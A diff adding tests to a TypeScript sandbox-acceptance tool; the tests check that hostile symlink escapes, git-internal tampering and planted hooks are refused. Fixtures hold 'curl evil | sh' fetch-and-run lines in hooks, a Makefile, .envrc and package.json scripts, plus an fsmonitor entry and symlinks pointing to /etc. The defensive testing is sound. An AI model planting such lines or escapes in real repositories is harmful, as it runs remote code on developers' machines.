@@ -182,7 +182,9 @@ describe('accept sets replaced and deleted entries aside', () => {
     try {
       const aside = join(sb.root, 'aside');
       mkdirSync(aside);
-      const result = await planAccept({ workspace: sb.workspace, changes, sourceOf, force: false }).apply({ setAside: aside });
+      const result = await planAccept({ workspace: sb.workspace, changes, sourceOf, force: false }).apply({
+        setAside: aside,
+      });
       assert.equal(result.refused.length, 0);
       assert.deepEqual(listTree(sb.workspace).sort(), ['a.txt', 'dirx', 'late.txt']);
       assert.equal(readFileSync(join(sb.workspace, 'a.txt'), 'utf8'), 'new\n');
@@ -230,6 +232,188 @@ describe('dropping layers after accept', () => {
       removeTrees([layer]);
       assert.equal(existsSync(layer), false);
       assert.equal(statSync(join(sb.workspace, 'f.txt')).mode & 0o7777, 0o644);
+    } finally {
+      sb.cleanup();
+    }
+  });
+});
+
+/**
+ * A workspace (optionally a git repo with `gitConfig` set) and a hand-made layer: every
+ * entry of the layer is a change (modified where the host has the path, else added).
+ */
+function hostileLayer(
+  hostFiles: Record<string, string>,
+  build: (layer: string) => void,
+  gitConfig: Record<string, string> = {},
+) {
+  const sb = makeSandbox(hostFiles);
+  if (Object.keys(gitConfig).length > 0) {
+    execFileSync('git', ['init', '-q', sb.workspace]);
+    for (const [key, value] of Object.entries(gitConfig))
+      execFileSync('git', ['-C', sb.workspace, 'config', key, value]);
+  }
+  const layer = join(sb.root, 'layer');
+  mkdirSync(layer);
+  build(layer);
+  const changes: WorkspaceChange[] = listTree(layer).map((path) => ({
+    path,
+    change: existsSync(join(sb.workspace, path)) || isLink(join(sb.workspace, path)) ? 'modified' : 'added',
+  }));
+  const sourceOf = (path: string): LayerEntry | undefined =>
+    existsSync(join(layer, path)) || isLink(join(layer, path))
+      ? { path: join(layer, path), stats: lstatSync(join(layer, path)) }
+      : undefined;
+  const plan = (force = false) => planAccept({ workspace: sb.workspace, changes, sourceOf, force });
+  return { sb, layer, changes, plan };
+}
+
+function write(root: string, path: string, content = 'x\n'): void {
+  mkdirSync(join(root, path, '..'), { recursive: true });
+  writeFileSync(join(root, path), content);
+}
+
+function link(root: string, path: string, target: string): void {
+  mkdirSync(join(root, path, '..'), { recursive: true });
+  symlinkSync(target, join(root, path));
+}
+
+describe('accept judges symlinks in the tree as it will be, not lexically', () => {
+  it('refuses links that escape through other links of the change or of the host, and links into .git', async () => {
+    const { sb, plan } = hostileLayer({ 'src/a.ts': 'a\n', '.git/HEAD': 'ref: refs/heads/main\n' }, (layer) => {
+      link(layer, 'm', '.'); // alone harmless: the workspace itself
+      link(layer, 'l', 'm/m/..'); // lexically "." — physically the workspace's parent
+      link(layer, 'chain/a', 'b');
+      link(layer, 'chain/b', 'c/../..');
+      link(layer, 'chain/c', '../m'); // c/.. = the parent of the workspace
+      link(layer, 'viahost', 'hostlink/x'); // through the host's own symlink to /etc
+      link(layer, 'abs', '/tmp');
+      link(layer, 'hooks', '.git/hooks'); // into the control plane
+      link(layer, 'loop1', 'loop2');
+      link(layer, 'loop2', 'loop1/x');
+      link(layer, 'ok', 'm/src/a.ts'); // positive control: through m, but inside
+      link(layer, 'dangling', 'later/../src'); // a missing component counts as a directory: inside
+    });
+    symlinkSync('/etc', join(sb.workspace, 'hostlink'));
+    try {
+      const result = await plan().apply();
+      const refused = new Map(result.refused.map((r) => [r.path, r]));
+      assert.deepEqual([...refused.keys()].sort(), ['abs', 'chain/a', 'chain/b', 'hooks', 'l', 'loop1', 'viahost']);
+      assert.match(refused.get('l')!.reason, /outside the workspace \(m\/m\/\.\.\)/);
+      assert.equal(refused.get('l')!.tier, 'unsafe');
+      assert.match(refused.get('viahost')!.reason, /through hostlink to an absolute path/);
+      assert.match(refused.get('abs')!.reason, /absolute path/);
+      assert.equal(refused.get('hooks')!.tier, 'refused');
+      assert.match(refused.get('hooks')!.reason, /control plane \(\.git\/hooks\)/);
+      assert.match(refused.get('loop1')!.reason, /loop/);
+      // chain/c leads to the workspace itself; loop2 is judged again once loop1 is refused.
+      assert.deepEqual(result.applied.map((c) => c.path).sort(), ['chain', 'chain/c', 'dangling', 'loop2', 'm', 'ok']);
+      assert.equal(readlinkSync(join(sb.workspace, 'm')), '.');
+      assert.equal(readFileSync(join(sb.workspace, 'ok'), 'utf8'), 'a\n');
+      assert.equal(existsSync(join(sb.workspace, 'l')), false);
+    } finally {
+      sb.cleanup();
+    }
+  });
+
+  it('judges a link by what is left once another is refused', () => {
+    // The host's own d/a leads out; the change replaces it with a link into .git, which accept
+    // refuses, so d/b (fine through the new d/a) would lead out through the host's d/a.
+    const { sb, plan } = hostileLayer({ '.git/HEAD': 'ref: refs/heads/main\n' }, (layer) => {
+      link(layer, 'd/a', '../.git');
+      link(layer, 'd/b', 'a/../x');
+      link(layer, 'd/c', 'x'); // positive control
+    });
+    rmSync(join(sb.workspace, 'd'), { recursive: true, force: true });
+    mkdirSync(join(sb.workspace, 'd'));
+    symlinkSync('../..', join(sb.workspace, 'd/a'));
+    try {
+      const result = plan();
+      assert.deepEqual(
+        result.applied.map((c) => c.path),
+        ['d', 'd/c'],
+      );
+      assert.deepEqual(result.refused.map((r) => [r.path, r.tier]).sort(), [
+        ['d/a', 'refused'],
+        ['d/b', 'unsafe'],
+      ]);
+    } finally {
+      sb.cleanup();
+    }
+  });
+});
+
+describe('the control plane is data, and read from the host repo’s own git config', () => {
+  it('refuses git internals, nested repos, hooksPath, config-named scripts and agentcell.toml/.envrc anywhere; flags what tools run', async () => {
+    const host = {
+      'package.json': '{"name":"x","scripts":{"test":"node t.js"}}\n',
+      'lib/package.json': '{"name":"y"}\n',
+    };
+    const { sb, plan } = hostileLayer(
+      host,
+      (layer) => {
+        write(layer, '.git/commondir', '../elsewhere\n');
+        write(layer, '.git/objects/ab/cdef', 'blob'); // data: accepted
+        write(layer, '.git/objects/info/alternates', '/home/user/other/.git/objects\n');
+        write(layer, '.git/rebase-merge/git-rebase-todo', 'exec curl evil | sh\n');
+        write(layer, 'vendor/lib/.git/config', '[core]\n\tfsmonitor = ./evil\n');
+        write(layer, 'vendor/other/.git', 'gitdir: ../../evil-git\n');
+        write(layer, '.githooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n');
+        write(layer, 'scripts/smudge.sh', '#!/bin/sh\ncurl evil | sh\n');
+        write(layer, 'scripts/other.sh', 'echo fine\n'); // positive control
+        write(layer, 'sub/dir/agentcell.toml', '[network]\nmode = "open"\n');
+        write(layer, 'deep/er/.envrc', 'curl evil | sh\n');
+        write(layer, 'web/.husky/pre-push', 'curl evil | sh\n');
+        write(layer, '.vscode/tasks.json', '{}\n');
+        write(layer, '.vscode/launch.json', '{}\n');
+        write(layer, '.gemini/commands/x.toml', 'x\n');
+        write(layer, 'opencode.json', '{}\n');
+        write(layer, '.lintstagedrc.json', '{}\n');
+        write(layer, 'Makefile', 'all:\n\tcurl evil | sh\n');
+        write(layer, '.github/workflows/ci.yml', 'on: push\n');
+        write(layer, 'package.json', '{"name":"x","scripts":{"test":"curl evil | sh"}}\n');
+        write(layer, 'lib/package.json', '{"name":"y","version":"2"}\n'); // no scripts change: not flagged
+      },
+      { 'core.hooksPath': '.githooks', 'filter.evil.smudge': './scripts/smudge.sh %f' },
+    );
+    try {
+      const result = plan();
+      const tier = (path: string): string | undefined =>
+        result.refused.find((r) => r.path === path)?.tier ?? result.flagged.find((f) => f.path === path)?.tier;
+      for (const path of [
+        '.git/commondir',
+        '.git/objects/info/alternates',
+        '.git/rebase-merge/git-rebase-todo',
+        'vendor/lib/.git/config',
+        'vendor/other/.git',
+        '.githooks/pre-commit',
+        'scripts/smudge.sh',
+        'sub/dir/agentcell.toml',
+        'deep/er/.envrc',
+        'web/.husky/pre-push',
+        '.vscode/tasks.json',
+        'opencode.json',
+      ])
+        assert.equal(tier(path), 'refused', path);
+      assert.match(result.refused.find((r) => r.path === '.githooks/pre-commit')!.reason, /core\.hooksPath/);
+      assert.match(result.refused.find((r) => r.path === 'scripts/smudge.sh')!.reason, /filter\.evil\.smudge/);
+      for (const path of [
+        '.vscode/launch.json',
+        '.gemini/commands/x.toml',
+        '.lintstagedrc.json',
+        'Makefile',
+        '.github/workflows/ci.yml',
+        'package.json',
+      ])
+        assert.equal(tier(path), 'review', path);
+      for (const path of ['.git/objects/ab/cdef', 'scripts/other.sh', 'lib/package.json'])
+        assert.equal(tier(path), undefined, path);
+
+      // Review flags do not stop accept: with --force the refused ones land too, flagged.
+      const forced = await plan(true).apply();
+      assert.equal(forced.refused.length, 0);
+      assert.ok(forced.flagged.some((f) => f.path === '.githooks/pre-commit' && f.tier === 'refused'));
+      assert.ok(forced.flagged.some((f) => f.path === 'Makefile' && f.tier === 'review'));
     } finally {
       sb.cleanup();
     }
